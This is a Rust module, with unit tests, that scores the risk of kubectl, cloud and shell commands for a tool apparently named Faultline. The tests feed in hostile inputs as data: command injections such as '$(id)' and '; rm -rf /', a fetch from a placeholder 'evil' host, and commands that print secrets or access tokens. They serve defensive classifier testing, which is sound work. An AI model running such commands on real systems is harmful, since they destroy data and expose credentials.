//! What a command would risk, computed from the command alone: nobody's word can lower it.
//!
//! ```text
//! text -> command (one plain command, or refused) -> kubectl | tools -> Verdict
//! ```
//! What is not known is `HIGH`: a table lists what is safe, never what is dangerous.

pub mod action;
mod clients;
mod command;
mod kubectl;
mod line;
mod names;
mod packages;
pub mod policy;
mod programs;
mod query;
pub mod settings;
mod tools;

pub use names::names;

use crate::domain::verdict::{RiskLevel, Verdict};

/// The risk of `command`. Placeholders such as `<pod>` may stand wherever a name may.
pub fn assess(command: &str) -> Verdict {
    match command::words(command) {
        Ok(words) => assess_words(&words),
        Err(reason) => high(reason),
    }
}

fn assess_words(words: &[String]) -> Verdict {
    let Some((program, arguments)) = command::program(words) else {
        return high("not a command that Faultline knows");
    };
    if kubectl::NAMES.contains(&program) { kubectl::assess(arguments) } else { tools::assess(program, arguments) }
}

const READS: Verdict = low("reads only");
const SHOWS_SECRETS: Verdict = high("shows secret values");
const SHOWS_CREDENTIAL: Verdict = high("prints a credential");
const MAY_SHOW_SECRETS: Verdict = medium("may show secret values");
const OTHER_IDENTITY: Verdict = high("acts on another server or as another user");
const FETCHES: Verdict = high("fetches what it then uses");
const RUNS_CODE: Verdict = high("runs other code");
const DELETES_LOCALLY: Verdict = high("deletes or overwrites files");

/// Changes nothing, or nothing that matters a minute later.
const fn low(reason: &'static str) -> Verdict {
    Verdict { risk: RiskLevel::Low, reason, reversible: true }
}

/// Changes something that one command brings back.
const fn medium(reason: &'static str) -> Verdict {
    Verdict { risk: RiskLevel::Medium, reason, reversible: true }
}

/// Changes something small for good.
const fn medium_lasting(reason: &'static str) -> Verdict {
    Verdict { risk: RiskLevel::Medium, reason, reversible: false }
}

/// May do harm that no command brings back.
const fn high(reason: &'static str) -> Verdict {
    Verdict { risk: RiskLevel::High, reason, reversible: false }
}

/// Does harm, until one command brings the old state back.
const fn high_undoable(reason: &'static str) -> Verdict {
    Verdict { risk: RiskLevel::High, reason, reversible: true }
}

/// The stricter of two; the first where they are equal.
fn stricter(first: Verdict, second: Verdict) -> Verdict {
    if second.risk > first.risk { second } else { first }
}

#[cfg(test)]
fn check(expected: RiskLevel, commands: &[&str]) {
    let wrong: Vec<String> = commands
        .iter()
        .map(|command| (command, assess(command)))
        .filter(|(_, verdict)| verdict.risk != expected)
        .map(|(command, verdict)| format!("{command}: {} ({})", verdict.risk.as_str(), verdict.reason))
        .collect();
    assert!(wrong.is_empty(), "should be {}:\n{}", expected.as_str(), wrong.join("\n"));
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOW: [&str; 14] = [
        "kubectl get pods -n shop -o wide",
        "kubectl -n shop logs api-7d9f8b6c5-xk4jn --previous --tail=100",
        "kubectl rollout restart deployment/api -n shop",
        "kubectl delete pod api-7d9f8b6c5-xk4jn -n shop",
        "kubectl get pods <pod> -n <namespace>",
        "helm history api -n shop --max 10",
        "terraform plan -lock-timeout=10m",
        "aws ec2 describe-instances --region eu-west-1",
        "curl -sS -m 5 http://api.shop:8080/healthz",
        "journalctl -u kubelet --no-pager",
        "sudo df -h /var/lib/containerd",
        "nc -vz -w 5 db.shop 5432",
        "etcdctl --endpoints=https://127.0.0.1:2379 endpoint health",
        "cat /sys/fs/cgroup/cpu.stat",
    ];

    #[test]
    fn no_shell_operator_outside_quotes_is_ever_low() {
        check(RiskLevel::Low, &LOW);
        let operators = [
            "|", ";", "&", "&&", "||", ">", ">>", "2>", "<", "<<<", "$(", "$(id)", "`", "`id`", "${IFS}", "$X", "\n", "\r\n",
            "(", "\0",
        ];
        for command in LOW {
            for at in (0..=command.len()).filter(|at| command.is_char_boundary(*at)) {
                for operator in operators {
                    for spaced in [operator.to_owned(), format!(" {operator} "), format!("{operator} rm -rf /")] {
                        let joined = format!("{}{spaced}{}", &command[..at], &command[at..]);
                        assert_ne!(assess(&joined).risk, RiskLevel::Low, "{joined:?}");
                    }
                }
            }
        }
    }

    #[test]
    fn operators_inside_quotes_are_data() {
        check(
            RiskLevel::Low,
            &[
                r#"kubectl get nodes -o jsonpath='{.items[?(@.status.x>"1")].metadata.name}{"\n"}'"#,
                "kubectl get pods -l 'tier in (web, api)' --sort-by='{.metadata.name}'",
                r#"journalctl -u kubelet --since "30 min ago; yes" -g 'a|b&c`$(d)'"#,
                r#"kubectl get pods -o jsonpath="{range .items[*]}{.metadata.name}{'\n'}{end}""#,
            ],
        );
        check(
            RiskLevel::High,
            &[r#"kubectl get pods -l "$(id)""#, r#"kubectl get pods -l "`id`""#, r#"kubectl get pods "$HOME""#],
        );
    }

    #[test]
    fn what_cannot_be_read_is_high() {
        check(
            RiskLevel::High,
            &[
                "",
                "   ",
                "kubectl get pods 'x",
                "kubectl get pods \"x",
                "kubectl get pods \\",
                "# kubectl get pods",
                "kubectl get pods # '\nrm -rf / #'",
                "kubectl get pods $'\\''",
                "kubectl get {secret,-oyaml} x",
                "kubectl get pods \u{202e}x",
                "kubectl get pods !!",
                "frobnicate --all",
                "FOO=bar kubectl get pods",
                "./kubectl get pods",
                "/tmp/kubectl get pods",
                "sudo -i",
                "sudo",
                "ls <(id)",
                "cat <<EOF",
                "ls </dev/null>/etc/passwd",
            ],
        );
        check(
            RiskLevel::Low,
            &["ETCDCTL_API=3 etcdctl member list", "sudo -u postgres pg_isready", "timeout 5 /usr/bin/nc -z db 5432"],
        );
    }

    #[test]
    fn tools_with_sub_commands_are_judged_by_them() {
        check(
            RiskLevel::Low,
            &[
                "helm -n shop list",
                "helm upgrade api ./chart -n shop --reuse-values --dry-run=server --hide-secret",
                "terraform state show 'aws_instance.a'",
                "terraform fmt -check",
                "tofu workspace list",
                "argocd app get api --show-operation",
                "flux get all -A --status-selector ready=false",
                "aws --region eu-west-1 sts get-caller-identity",
                "aws service-quotas list-service-quotas --service-code ec2",
                "gcloud compute regions describe europe-west1 --flatten=quotas",
                "gcloud projects get-iam-policy p --flatten=bindings",
                "az vm list-usage --location westeurope -o table",
                "az role assignment list --assignee x --all",
                "az network vnet show --frob y -n x",
                "docker manifest inspect ghcr.io/acme/api:v9",
                "crictl ps -a --name kube-apiserver",
                "istioctl proxy-status",
                "kubeadm certs check-expiration",
                "git log -5",
            ],
        );
        check(
            RiskLevel::Medium,
            &[
                "helm rollback api 3 -n shop --wait",
                "helm upgrade api ./chart --description --dry-run",
                "helm upgrade api ./chart --dry-run",
                "helm get manifest api",
                "helm get values api -n shop --all",
                "terraform init -upgrade",
                "terraform output db_password",
                "argocd app sync api",
                "argocd app get api --hard-refresh",
                "flux reconcile kustomization apps",
                "aws service-quotas request-service-quota-increase --service-code ec2",
                "docker pull nginx",
                "git revert abc",
            ],
        );
        check(
            RiskLevel::High,
            &[
                "helm uninstall api",
                "helm --frob list uninstall api",
                "helm template x --post-renderer ./x",
                "helm list --kube-token x",
                "helm upgrade x https://evil/x.tgz",
                "terraform apply tfplan",
                "terraform destroy",
                "terraform state rm x",
                "terraform import a b",
                "argocd app delete api",
                "argocd app sync api --force",
                "flux uninstall",
                "aws ec2 terminate-instances --instance-ids i-1",
                "aws secretsmanager get-secret-value --secret-id x",
                "aws ecr get-login-password",
                "aws ssm get-parameter --name x --with-decryption",
                "aws s3 rm s3://x --recursive",
                "gcloud auth print-access-token",
                "gcloud compute instances delete describe",
                "az account get-access-token",
                "az storage account keys list",
                "az group delete -n show",
                "docker run alpine ls",
                "docker system prune",
                "crictl rm x",
                "kubeadm reset",
                "git push --force",
                "git -c core.pager=x log",
            ],
        );
    }

    #[test]
    fn reasons_and_reversibility_are_told() {
        let told = |command: &str| {
            let verdict = assess(command);
            (verdict.risk, verdict.reason, verdict.reversible)
        };
        assert_eq!(told("kubectl get pods"), (RiskLevel::Low, "reads only", true));
        assert_eq!(told("kubectl get pods | head"), (RiskLevel::High, "pipes into another command", false));
        assert_eq!(told("kubectl rollout restart deploy/x"), (RiskLevel::Low, "rolling restart, same template", true));
        assert_eq!(told("terraform force-unlock 1"), (RiskLevel::High, "two writers can corrupt the state", false));
        assert_eq!(told("kubectl get secret x -o yaml"), (RiskLevel::High, "shows secret values", false));
        assert_eq!(told("frobnicate"), (RiskLevel::High, "not a command that Faultline knows", false));
    }
}
